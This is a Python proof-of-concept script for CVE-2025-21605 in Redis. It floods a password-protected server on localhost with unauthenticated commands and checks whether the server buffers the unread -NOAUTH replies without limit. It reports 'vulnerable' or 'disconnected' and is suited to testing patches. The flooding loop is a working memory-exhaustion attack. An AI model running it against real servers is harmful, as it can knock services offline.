#!/usr/bin/env python3
"""Proof of concept for CVE-2025-21605 (redis): an unauthenticated client
makes the server buffer replies without limit.

The server requires a password. The attacker connects without one, sends
`SET x 5` (answered with -NOAUTH) COUNT times without ever reading the
replies, as the upstream test "For unauthenticated clients output buffer is
limited" does. A vulnerable server keeps the connection and queues every
-NOAUTH reply in the client's output buffer; a fixed one closes the
connection once an unauthenticated client's buffer passes 1 KiB.

An authenticated connection then reads the attacker's entry in CLIENT LIST.
Prints one line:
  poc=vulnerable sent=N omem=BYTES tot-mem=BYTES   (the server kept it all)
  poc=disconnected sent=N                          (the server closed it)
and exits 0 in both cases, 2 when neither can be shown.

Usage: poc.py PORT PASSWORD [COUNT]   (127.0.0.1 only)
"""
import socket
import sys
import time

HOST = "127.0.0.1"


def command(*args):
    out = [b"*%d\r\n" % len(args)]
    for a in args:
        a = a.encode() if isinstance(a, str) else a
        out.append(b"$%d\r\n%s\r\n" % (len(a), a))
    return b"".join(out)


def read_reply(f):
    """One RESP2 reply from a buffered reader (only what this script needs)."""
    line = f.readline()
    if not line:
        raise ConnectionError("connection closed")
    kind, rest = line[:1], line[1:-2]
    if kind in (b"+", b"-", b":"):
        return line[:-2].decode()
    if kind == b"$":
        n = int(rest)
        if n < 0:
            return None
        data = f.read(n + 2)
        return data[:-2].decode()
    raise ValueError("unexpected reply %r" % line)


def main():
    port = int(sys.argv[1])
    password = sys.argv[2]
    count = int(sys.argv[3]) if len(sys.argv) > 3 else 1000000
    deadline = time.monotonic() + 30

    admin = socket.create_connection((HOST, port), timeout=10)
    af = admin.makefile("rb")
    admin.sendall(command("AUTH", password))
    if read_reply(af) != "+OK":
        print("poc: AUTH failed", file=sys.stderr)
        return 2

    attacker = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    # A small receive window, so that what the client does not read stays
    # in the server's output buffer rather than in the kernel's.
    attacker.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    attacker.settimeout(10)
    attacker.connect((HOST, port))
    local_port = attacker.getsockname()[1]
    xf = attacker.makefile("rb")
    attacker.sendall(command("SET", "x", "5"))
    first = read_reply(xf)
    if not first.startswith("-NOAUTH"):
        print("poc: expected a NOAUTH reply, got %r" % first, file=sys.stderr)
        return 2

    one = command("SET", "x", "5")
    batch = 1000
    chunk = one * batch
    sent = 0
    closed = False
    try:
        while sent < count and time.monotonic() < deadline:
            attacker.sendall(chunk)
            sent += batch
    except (BrokenPipeError, ConnectionResetError):
        closed = True
    except socket.timeout:
        print("poc: the server stopped reading after %d commands" % sent, file=sys.stderr)
        return 2

    entry = None
    if not closed:
        # Let the server process what it has received.
        time.sleep(0.5)
        admin.sendall(command("CLIENT", "LIST", "TYPE", "normal"))
        for line in (read_reply(af) or "").splitlines():
            fields = dict(kv.split("=", 1) for kv in line.split(" ") if "=" in kv)
            if fields.get("addr") == "%s:%d" % (HOST, local_port):
                entry = fields
    attacker.close()
    admin.close()

    if entry is not None:
        print("poc=vulnerable sent=%d omem=%s tot-mem=%s" % (sent, entry["omem"], entry["tot-mem"]))
    else:
        print("poc=disconnected sent=%d" % sent)
    return 0


if __name__ == "__main__":
    sys.exit(main())
